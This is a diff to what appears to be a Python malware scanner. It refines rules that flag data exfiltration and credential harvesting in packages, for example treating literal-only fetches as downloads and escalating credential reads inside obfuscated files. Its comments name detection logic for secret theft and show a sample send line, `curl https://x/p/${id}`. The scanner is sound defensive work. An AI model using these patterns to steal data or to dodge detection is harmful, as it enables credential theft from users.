@@ -175,12 +175,18 @@ def exfiltration(ctx: Context) -> Iterable[Finding]:
     # probe collects goes out in `curl https://x/p/${id}`.
     sources = _sources(ctx)
     sinks = [f for f in [*ctx.of(SIGNAL_SINK), *_network_spawns(ctx)] if not _loopback(f)]
+    if ctx.when is not When.INSTALL and not any("deobfuscated" in f.props for f in sources):
+        # A request written entirely as literals (`fetch("https://x/sample.ogg")`) carries
+        # none of the data read elsewhere: it is a download, not the send. (At install time
+        # such a request is itself the phone-home, see beacon(); in code that hid its strings
+        # the send itself may be one we cannot resolve, so the request stays the evidence.)
+        sinks = [f for f in sinks if not f.props.get("bare")]
     if not sources or not sinks or not _sends(ctx, sinks):
         return []
     kinds = {str(f.props.get("kind", "")) for f in sources}
     sink_kinds = {str(f.props.get("kind") or "network") for f in sinks}
-    # Strings the code hid (a string array decoded statically, analyzers/js_strarray.py) that
-    # turn out to name a sensitive read and a send: hiding where data goes is the intent.
+    # Strings the code hid (a string array decoded statically, analyzers/javascript/strarray.py)
+    # that turn out to name a sensitive read and a send: hiding where data goes is the intent.
     hidden = bool(kinds & STRONG_SOURCES) and any(
         "deobfuscated" in f.props for f in (*sources, *sinks)
     )
@@ -382,6 +388,11 @@ def credentials(ctx: Context) -> Iterable[Finding]:
         return []
     anchor = stores[0]
     props: dict[str, object] = {"when": ctx.when.value, "detail": anchor.props.get("detail")}
+    if any(f.type == "obfuscatedFile" and f.file == anchor.file for f in ctx.findings):
+        # Password managers and browser tools name the stores they read; code that hides its
+        # names and strings while reading one hides what it takes: blocks wherever it sits.
+        props.update(severity="critical", action="error", note="read by code that hides itself")
+        return [replace(anchor, type="credentialHarvesting", props=props)]
     if ctx.when is When.CALL and _python(anchor.file) and not _any_send(ctx):
         # A browser-cookie reader that hands the cookies to its caller (a downloader's
         # `--cookies-from-browser`) sends them nowhere itself; a stealer's send is judged
